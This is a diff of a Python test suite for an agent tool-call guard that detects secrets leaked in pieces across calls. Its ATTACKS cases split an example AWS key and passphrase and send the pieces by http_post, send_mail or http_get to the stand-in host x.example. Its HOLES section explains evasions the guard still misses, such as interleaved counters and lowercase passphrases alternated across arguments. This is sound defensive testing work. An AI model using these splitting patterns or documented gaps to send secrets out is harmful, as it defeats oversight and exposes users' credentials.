@@ -18,13 +18,17 @@ from interlock import Action, Context, Guard, Verdict
 from interlock.policy import load_policy_text
 from interlock.session import tails as tails_module
 from interlock.session.history import MemoryHistory
-from interlock.session.tails import TAIL, ArgumentTails, tails_of
+from interlock.session.tails import ACROSS, TAIL, ArgumentTails, tails_of
 from interlock.store import open_store
 
 KEY = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY"
 PASSWORD = "Tr0ub4dor&3x"
 CARD = "4111111111111111"
-ENV = f"AWS_SECRET_ACCESS_KEY={KEY}\nDB_PASSWORD={PASSWORD}\nCARD={CARD}\n"
+PASSPHRASE = "correcthorsebatterystaplemeadowlark"
+ENV = (
+    f"AWS_SECRET_ACCESS_KEY={KEY}\nDB_PASSWORD={PASSWORD}\nCARD={CARD}\n"
+    f"VAULT_PASSPHRASE={PASSPHRASE}\n"
+)
 
 POLICY = """\
 version: 1
@@ -107,19 +111,60 @@ ATTACKS: dict[str, list[Call]] = {
     "short-password-halves": _posts(_cut(PASSWORD, 6), lambda p: {"body": p}),
     "reversed-order": _posts(list(reversed(_cut(KEY, 10))), lambda p: {"body": p}),
     "reversed-order-4": _posts(list(reversed(_cut(KEY, 4))), lambda p: {"body": p}),
+    "interleaved-plain-noise": [
+        ("http_post", {"body": v}) for p in _cut(KEY, 10) for v in (p, "ok")
+    ],
+    "lowercase-passphrase": _posts(_cut(PASSPHRASE, 7), lambda p: {"body": p}),
     "number-argument": [("http_post", {"body": "x", "n": int(p)}) for p in _cut(CARD, 5)],
+    "alternating-arguments": [
+        ("http_post", {"a" if i % 2 else "b": p}) for i, p in enumerate(_cut(KEY, 10))
+    ],
+    "alternating-beside-a-recipient": [
+        ("send_mail", {"to": "a@x.example", ("subject" if i % 2 else "body"): p})
+        for i, p in enumerate(_cut(KEY, 10))
+    ],
+    "three-arguments-in-turn": [
+        ("http_post", {"abc"[i % 3]: p}) for i, p in enumerate(_cut(KEY, 8))
+    ],
+    "alternating-tools-and-arguments": [
+        ("send_mail", {"to": "a@x.example", "body": p})
+        if i % 2
+        else ("http_post", {"url": "https://x.example/", "data": p})
+        for i, p in enumerate(_cut(KEY, 10))
+    ],
+    "alternating-query-parameters": [
+        ("http_get", {"url": f"https://x.example/c?{'ab'[i % 2]}={p}"})
+        for i, p in enumerate(_cut(KEY, 10))
+    ],
+    "query-then-body": [
+        ("http_get", {"url": f"https://x.example/c?d={p}"}) if i % 2 else ("http_post", {"body": p})
+        for i, p in enumerate(_cut(KEY, 10))
+    ],
+    "alternating-reversed": [
+        ("http_post", {"a" if i % 2 else "b": p}) for i, p in enumerate(reversed(_cut(KEY, 10)))
+    ],
 }
 
 #: id -> why the pieces still leave
 HOLES: dict[str, tuple[list[Call], str]] = {
-    "alternating-arguments": (
-        [("http_post", {"a" if i % 2 else "b": p}) for i, p in enumerate(_cut(KEY, 10))],
-        "each argument name keeps its own tail: pieces sent in turn in two arguments are "
-        "never next to each other in one",
+    "alternating-arguments-beside-a-counter": (
+        [
+            ("http_post", {"n": str(i), ("a" if i % 2 else "b"): p})
+            for i, p in enumerate(_cut(KEY, 10))
+        ],
+        "a changing value of another argument (the counter) is a piece too, sent between "
+        "two pieces of the key: the stream of every argument's pieces is interleaved",
+    ),
+    "alternating-arguments-lowercase-passphrase": (
+        [("http_post", {"a" if i % 2 else "b": p}) for i, p in enumerate(_cut(PASSPHRASE, 7))],
+        "a value of lowercase letters alone is no piece for the stream across arguments "
+        "(an agent's ordinary names and paths would be joined all the time): a passphrase "
+        "of lowercase words sent in turn in two arguments is joined in neither",
     ),
     "interleaved-noise": (
-        [("http_post", {"body": v}) for p in _cut(KEY, 10) for v in (p, "ok")],
-        "a value between two pieces in the same argument ends the tail",
+        [("http_post", {"body": v}) for i, p in enumerate(_cut(KEY, 10)) for v in (p, f"Ack{i}")],
+        "a value between two pieces in the same argument ends the tail, and one with a "
+        "digit or a capital is a piece of the stream across arguments too",
     ),
 }
 
@@ -159,6 +204,12 @@ BENIGN: dict[str, list[Call]] = {
     "another-key-base64-pieces": _posts(
         _cut(base64.b64encode(_other_key(2).encode()).decode(), 8), lambda p: {"body": p}
     ),
+    "order-ids-in-turn": [
+        ("http_post", {"a" if i % 2 else "b": f"ORD-{7000 + i}"}) for i in range(12)
+    ],
+    "other-key-in-turn": [
+        ("http_post", {"a" if i % 2 else "b": p}) for i, p in enumerate(_cut(_other_key(3), 10))
+    ],
     "pages": [("http_get", {"url": f"https://x.example/list?page={i}"}) for i in range(12)],
     "path-ids": [("http_get", {"url": f"https://x.example/items/{i:08d}"}) for i in range(12)],
     "prose": _posts(
@@ -229,7 +280,12 @@ def test_a_call_no_flow_test_reads_does_not_advance_the_tails() -> None:
     guard.check(Action.tool("log", {"body": KEY[:10]}))  # no rule reads log's flows
     assert tails_of(history).tails("default", "s") == {}
     guard.check(Action.tool("http_post", {"body": KEY[:10]}))
-    assert tails_of(history).tails("default", "s") == {"body": KEY[:10], "body<": KEY[:10]}
+    assert _streams(tails_of(history), "default", "s") == {"body": KEY[:10], "body<": KEY[:10]}
+
+
+def _streams(tails: ArgumentTails, tenant: str, session: str) -> dict[str, str]:
+    """The session's tails but the stream of every argument's pieces (ACROSS)."""
+    return {k: v for k, v in tails.tails(tenant, session).items() if not k.startswith(ACROSS)}
 
 
 # -- the tails themselves -------------------------------------------------------------
@@ -240,24 +296,24 @@ def test_the_tail_grows_while_each_value_is_one_run_and_restarts_after_whitespac
     tails.advance("t", "s", {"b": "abc"})
     tails.advance("t", "s", {"b": "def"})
     # the tail grows to the right, the head (for pieces sent last to first) to the left
-    assert tails.tails("t", "s") == {"b": "abcdef", "b<": "defabc"}
+    assert _streams(tails, "t", "s") == {"b": "abcdef", "b<": "defabc"}
     tails.advance("t", "s", {"b": "x" * 100})
-    assert tails.tails("t", "s") == {"b": "x" * TAIL, "b<": "x" * TAIL}
+    assert _streams(tails, "t", "s") == {"b": "x" * TAIL, "b<": "x" * TAIL}
     tails.advance("t", "s", {"b": "part 2: ghi"})
     # its last run, and its first run (kept twice: as the first run and as the head)
-    assert tails.tails("t", "s") == {"b": "ghi", "b^": "part", "b<": "part"}
+    assert _streams(tails, "t", "s") == {"b": "ghi", "b^": "part", "b<": "part"}
     tails.advance("t", "s", {"b": "ends with a space "})
-    assert tails.tails("t", "s") == {"b": "", "b^": "ends", "b<": "ends"}
+    assert _streams(tails, "t", "s") == {"b": "", "b^": "ends", "b<": "ends"}
     tails.advance("t", "s", {"b": "  \n"})
-    assert tails.tails("t", "s") == {"b": "", "b<": ""}
+    assert _streams(tails, "t", "s") == {"b": "", "b<": ""}
     tails.advance("t", "s", {"b": "one-run"})
-    assert tails.tails("t", "s") == {"b": "one-run", "b<": "one-run"}
+    assert _streams(tails, "t", "s") == {"b": "one-run", "b<": "one-run"}
 
 
 def test_a_url_argument_keeps_a_tail_for_each_part() -> None:
     tails = ArgumentTails()
     tails.advance("t", "s", {"u": "https://ab.c.x.example/p/q%2Dr?d=1&e=f%20g#frag"})
-    assert tails.tails("t", "s") == {
+    assert _streams(tails, "t", "s") == {
         "u?d": "1",
         "u?e": "g",  # the value's last run
         "u?e^": "f",  # and its first
@@ -268,7 +324,7 @@ def test_a_url_argument_keeps_a_tail_for_each_part() -> None:
     }
     # a text that is not a URL after all is a plain stream
     tails.advance("t", "s2", {"u": "http://[::1"})
-    assert tails.tails("t", "s2") == {"u": "http://[::1", "u<": "http://[::1"}
+    assert _streams(tails, "t", "s2") == {"u": "http://[::1", "u<": "http://[::1"}
 
 
 def test_tails_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -281,9 +337,41 @@ def test_tails_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
     assert tails.tails("t", "a") == {}  # the least recently advanced left first
     tails.advance("t", "b", {"x": "b"})  # b is now the most recent
     tails.advance("t", "e", {"x": "e"})
-    assert tails.tails("t", "c") == {} and tails.tails("t", "b") == {"x": "bb", "x<": "bb"}
+    assert tails.tails("t", "c") == {}
+    assert tails.tails("t", "b") == {"x": "bb", "x<": "bb"}  # lowercase: no piece
     tails.advance("t", "f", {"x": "1", "y": "2", "z": "3"})
-    assert tails.tails("t", "f") == {"x": "1", "x<": "1", "y": "2", "y<": "2"}
+    assert tails.tails("t", "f") == {
+        **{"x": "1", "x<": "1", "y": "2", "y<": "2"},  # z: past MAX_NAMES
+        **{ACROSS: "12", ACROSS + "<": "21"},  # the pieces' stream beyond the bound
+    }
+
+
+def test_pieces_of_every_argument_make_one_more_stream() -> None:
+    """ACROSS: each value of one run (at most TAIL characters) that is not its
+    stream's last value again, in the order the calls sent them; while they all come
+    from one stream it holds that stream's state and joins nothing of its own."""
+    tails = ArgumentTails()
+    # two arguments of one call are pieces in their order: one seam, the second's
+    joined = tails.advance("t", "s", {"to": "A1@x.example", "b": KEY[:10]})
+    assert [name for name, _ in joined] == ["b", "b"]  # the recipient then it, and reversed
+    assert tails.tails("t", "s")[ACROSS] == "A1@x.example" + KEY[:10]
+    # the recipient again is no piece; the body's next piece follows the last
+    tails.advance("t", "s", {"to": "A1@x.example", "a": KEY[10:20]})
+    assert tails.tails("t", "s")[ACROSS] == "A1@x.example" + KEY[:20]
+    # lowercase letters and the signs of names, paths and addresses alone are no piece
+    tails.advance("t", "s", {"to": "bob@x.example", "p": "/srv/app/views.py"})
+    assert tails.tails("t", "s")[ACROSS] == "A1@x.example" + KEY[:20]
+    # one stream alone: ACROSS is in its state, and its seams are the stream's only
+    only = ArgumentTails()
+    only.advance("t", "s", {"b": KEY[:10]})
+    names = [name for name, _ in only.advance("t", "s", {"b": KEY[10:20]})]
+    assert names == ["b", "b"]  # the stream's own two (after its tail, before its head)
+    assert only.tails("t", "s")[ACROSS] == KEY[:20] == only.tails("t", "s")["b"]
+    # prose, a long run and whitespace around a value are no pieces (capitals in each)
+    prose = ArgumentTails()
+    for value in ("Two words", "X" * (TAIL + 1), " Lead", "Trail "):
+        prose.advance("t", "s", {"b": value})
+    assert ACROSS not in prose.tails("t", "s")
 
 
 def test_the_tails_are_tenant_scoped() -> None:
@@ -354,7 +442,8 @@ def test_no_tail_is_written_to_the_session_tables(tmp_path: Path) -> None:
                 assert "q9Zk4TmW2x" not in repr(row), table
 
 
-def test_false_positive_rate_of_the_joins_on_ordinary_arguments() -> None:
+@pytest.mark.parametrize("layout", ["one-argument", "alternating-arguments"])
+def test_false_positive_rate_of_the_joins_on_ordinary_arguments(layout: str) -> None:
     """The corpus of ordinary arguments (shell commands, URLs, paths, mails, messages)
     sent one after another in one session, each joined to the one before, against ~76
     texts they did not come from: what the joins alone add to the fingerprints' own
@@ -370,8 +459,9 @@ def test_false_positive_rate_of_the_joins_on_ordinary_arguments() -> None:
     tails = ArgumentTails()
     joined_calls = flagged_pairs = 0
     flagged: list[Any] = []
-    for argument in arguments:
-        args = argument if isinstance(argument, dict) else {"text": argument}
+    for i, argument in enumerate(arguments):
+        name = "text" if layout == "one-argument" else "ab"[i % 2]
+        args = argument if isinstance(argument, dict) else {name: argument}
         joined = [probe for _, probe in tails.advance("t", "fp", args)]
         if not joined:
             continue
@@ -382,7 +472,7 @@ def test_false_positive_rate_of_the_joins_on_ordinary_arguments() -> None:
             flagged.append(argument)
     pairs = joined_calls * len(kept)
     print(
-        f"\njoins: {joined_calls} of {len(arguments)} calls joined to the one before; "
+        f"\njoins ({layout}): {joined_calls} of {len(arguments)} calls joined to the one before; "
         f"false positives {flagged_pairs}/{pairs} pairs = {flagged_pairs / pairs:.3%}; "
         f"calls flagged {len(flagged)}: {flagged}"
     )
